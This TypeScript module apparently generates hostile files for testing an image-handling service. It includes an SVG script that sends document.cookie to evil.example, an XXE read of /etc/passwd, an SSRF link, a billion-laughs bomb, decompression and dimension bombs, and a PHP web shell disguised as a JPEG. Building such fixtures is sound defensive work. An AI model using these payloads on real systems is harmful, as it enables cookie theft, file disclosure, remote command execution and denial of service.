import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { drawPicture } from './picture-host.ts';

export interface HostileFile {
  name: string;
  bytes: Buffer;
}

const text = (value: string) => Buffer.from(value, 'latin1');

function chunk(type: string, body: Buffer, isSpoiled = false): Buffer {
  const typed = Buffer.concat([text(type), body]);
  const frame = Buffer.alloc(8 + typed.length);
  frame.writeUInt32BE(body.length, 0);
  typed.copy(frame, 4);
  frame.writeUInt32BE(isSpoiled ? 0xdeadbeef : crc32(typed), 4 + typed.length);
  return frame;
}

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function header(width: number, height: number, depth = 8, colour = 2): Buffer {
  const body = Buffer.alloc(13);
  body.writeUInt32BE(width, 0);
  body.writeUInt32BE(height, 4);
  body.set([depth, colour, 0, 0, 0], 8);
  return body;
}

/** A PNG whose header has this size; its data may be shorter or missing. */
function png(width: number, height: number, data: Buffer, { depth = 8, colour = 2, spoiled = '' } = {}): Buffer {
  return Buffer.concat([
    PNG,
    chunk('IHDR', header(width, height, depth, colour), spoiled === 'IHDR'),
    chunk('IDAT', data, spoiled === 'IDAT'),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Baseline JPEG header of a given size without data. */
function jpegOf(width: number, height: number, rest = Buffer.alloc(0)): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), frame, rest, Buffer.from([0xff, 0xd9])]);
}

function webpOf(width: number, height: number, flags: number, rest = Buffer.alloc(0)): Buffer {
  const body = Buffer.alloc(18);
  body.write('VP8X', 0, 'latin1');
  body.writeUInt32LE(10, 4);
  body[8] = flags;
  body.writeUIntLE(width - 1, 12, 3);
  body.writeUIntLE(height - 1, 15, 3);
  const whole = Buffer.concat([text('RIFF\0\0\0\0WEBP'), body, rest]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
}

/** One pixel, repeated as frames. */
function gif(frames: number): Buffer {
  const frame = Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  const start = Buffer.concat([text('GIF89a'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])]);
  return Buffer.concat([start, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

async function animatedWebp(frames: number): Promise<Buffer> {
  const pixels = Buffer.from(Array.from({ length: frames * 4 * 4 * 3 }, (_, at) => (at * 7919) % 256));
  return sharp(pixels, { raw: { width: 4, height: 4 * frames, channels: 3, pageHeight: 4 } })
    .webp({ loop: 0 })
    .toBuffer();
}

/** Every scan costs a pass over the picture: a small file that takes minutes to decode. */
async function manyScans(times: number): Promise<Buffer> {
  const picture = await sharp(await drawPicture(3000, 3000))
    .jpeg({ progressive: true, quality: 30 })
    .toBuffer();
  const last = picture.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = picture.subarray(last, -2);
  return Buffer.concat([
    picture.subarray(0, -2),
    ...Array.from({ length: times }, () => scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`).join('')}]><svg>&j;</svg>`;

const documents = (): [string, Buffer][] => [
  ['svg with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
  ['svg with an event', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['svg with a declaration', text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
  ['svg that reads a file', text('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>')],
  [
    'svg that calls out',
    text('<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://127.0.0.1/"/></svg>'),
  ],
  ['svg with a foreign object', text(`<svg><foreignObject><body>${SCRIPT}</body></foreignObject></svg>`)],
  [
    'svg of 30,000 pixels',
    text(
      '<svg xmlns="http://www.w3.org/2000/svg" width="30000" height="30000"><rect width="100%" height="100%"/></svg>',
    ),
  ],
  ['svg, packed', gzipSync(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
  ['a billion laughs', text(LAUGHS)],
  ['a page', text(`<!doctype html><title>404</title>${SCRIPT}`)],
  ['json', text('{"status_code":34,"success":false}')],
  ['a script', text('alert(1)//')],
  ['nothing', Buffer.alloc(0)],
  ['one byte', Buffer.from([0xff])],
  ['zeros', Buffer.alloc(100_000)],
];

const otherFormats = (): [string, Buffer][] => [
  ['gif of 5,000 frames', gif(5_000)],
  ['gif and script in one', text('GIF89a/*\0\0\0\0*/=1;alert(1);')],
  ['bmp', Buffer.concat([text('BM'), Buffer.alloc(2_000)])],
  ['tiff', Buffer.concat([text('II*\0'), Buffer.alloc(2_000)])],
  ['tiff, the other way', Buffer.concat([text('MM\0*'), Buffer.alloc(2_000)])],
  ['ico', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(500)])],
  ['psd', Buffer.concat([text('8BPS\0\x01'), Buffer.alloc(500)])],
  ['pdf', text('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj')],
  ['pdf with a jpeg inside', Buffer.concat([text('%PDF-1.7\n'), jpegOf(10, 10)])],
  ['zip', Buffer.concat([text('PK\x03\x04'), Buffer.alloc(500)])],
  ['elf', Buffer.concat([text('\x7fELF'), Buffer.alloc(500)])],
  ['exe', Buffer.concat([text('MZ'), Buffer.alloc(500)])],
  ['mp4', Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypmp42'), Buffer.alloc(500)])],
  ['heic', Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypheic'), Buffer.alloc(500)])],
  ['jpeg 2000', Buffer.concat([Buffer.from([0, 0, 0, 12]), text('jP  \r\n\x87\n'), Buffer.alloc(500)])],
  ['jxl', Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(500)])],
  ['exr', Buffer.concat([Buffer.from([0x76, 0x2f, 0x31, 0x01]), Buffer.alloc(500)])],
  ['hdr', text('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 30000 +X 30000\n')],
  ['ppm of 30,000 pixels', text('P6 30000 30000 255\n')],
  ['fits', text('SIMPLE  =                    T')],
];

const bombs = (): [string, Buffer][] => [
  [
    'png of 30,000 × 30,000, all there',
    png(30_000, 30_000, deflateSync(Buffer.alloc(3_751 * 30_000)), { depth: 1, colour: 0 }),
  ],
  ['png of 30,000 × 30,000 in colour', png(30_000, 30_000, deflateSync(Buffer.alloc(1_000_000)))],
  ['png that unpacks to 10 GB', png(58_000, 58_000, deflateSync(Buffer.alloc(20_000_000)))],
  ['png of 2^31 pixels a side', png(0x7fffffff, 0x7fffffff, deflateSync(Buffer.alloc(100)))],
  ['png 1 pixel high and 100 million wide', png(100_000_000, 1, deflateSync(Buffer.alloc(1_000)))],
  ['png without size', png(0, 0, deflateSync(Buffer.alloc(10)))],
  ['jpeg of 65,500 × 65,500', jpegOf(65_500, 65_500)],
  ['jpeg of 30,000 × 30,000', jpegOf(30_000, 30_000)],
  ['jpeg without size', jpegOf(0, 0)],
  ['webp of 16,000 × 16,000', webpOf(16_000, 16_000, 0)],
  ['webp that says 16 million', webpOf(16_000_000, 200, 0x02)],
];

async function broken(): Promise<[string, Buffer][]> {
  const [jpeg, whole, webp] = await Promise.all([
    drawPicture(500, 750),
    drawPicture(500, 750, 'png'),
    drawPicture(500, 750, 'webp'),
  ]);
  const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));
  const turn = (bytes: Buffer) =>
    Buffer.concat([bytes.subarray(0, 200), bytes.subarray(200).map((byte) => byte ^ 0x5a)]);
  return [
    ...[0.05, 0.3, 0.6, 0.85].flatMap((share): [string, Buffer][] => [
      [`jpeg, ${share} of it`, cut(jpeg, share)],
      [`png, ${share} of it`, cut(whole, share)],
      [`webp, ${share} of it`, cut(webp, share)],
    ]),
    ['png with its bytes turned', turn(whole)],
    ['webp with its bytes turned', turn(webp)],
    ['png whose header lies about itself', png(100, 100, deflateSync(Buffer.alloc(30_100)), { spoiled: 'IHDR' })],
    ['png with data that is none', png(100, 100, Buffer.alloc(5_000, 0x41))],
    ['png of a colour that does not exist', png(100, 100, deflateSync(Buffer.alloc(30_100)), { colour: 5 })],
    ['png, magic only', PNG],
    ['png, magic and a page', Buffer.concat([PNG, text(`<html>${SCRIPT}`)])],
    ['jpeg, magic only', Buffer.from([0xff, 0xd8, 0xff])],
    ['jpeg, magic and a page', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(`<html>${SCRIPT}`)])],
    [
      'jpeg, magic and php',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 40]), text('<?php system($_GET["c"]); ?>')]),
    ],
    ['webp, magic only', text('RIFF\x04\0\0\0WEBP')],
    ['webp and sound in one', Buffer.concat([text('RIFF\xff\0\0\0WAVE'), Buffer.alloc(300)])],
    ['webp, magic and a page', text(`RIFF\xff\0\0\0WEBP<html>${SCRIPT}`)],
    ['a page and then a jpeg', Buffer.concat([text(`<html>${SCRIPT}`), jpeg])],
    ['script and then a png', Buffer.concat([text('/*'), whole])],
    ['16 MB of jpeg', Buffer.concat([jpeg, Buffer.alloc(16 * 1024 * 1024)])],
  ];
}

export async function drawHostileFiles(): Promise<HostileFile[]> {
  const moving: [string, Buffer][] = [['webp of 500 frames', await animatedWebp(500)]];
  const slow: [string, Buffer][] = [['jpeg of 3,000 scans', await manyScans(3_000)]];
  const all = [...documents(), ...otherFormats(), ...bombs(), ...(await broken()), ...moving, ...slow];
  return all.map(([name, bytes]) => ({ name, bytes }));
}
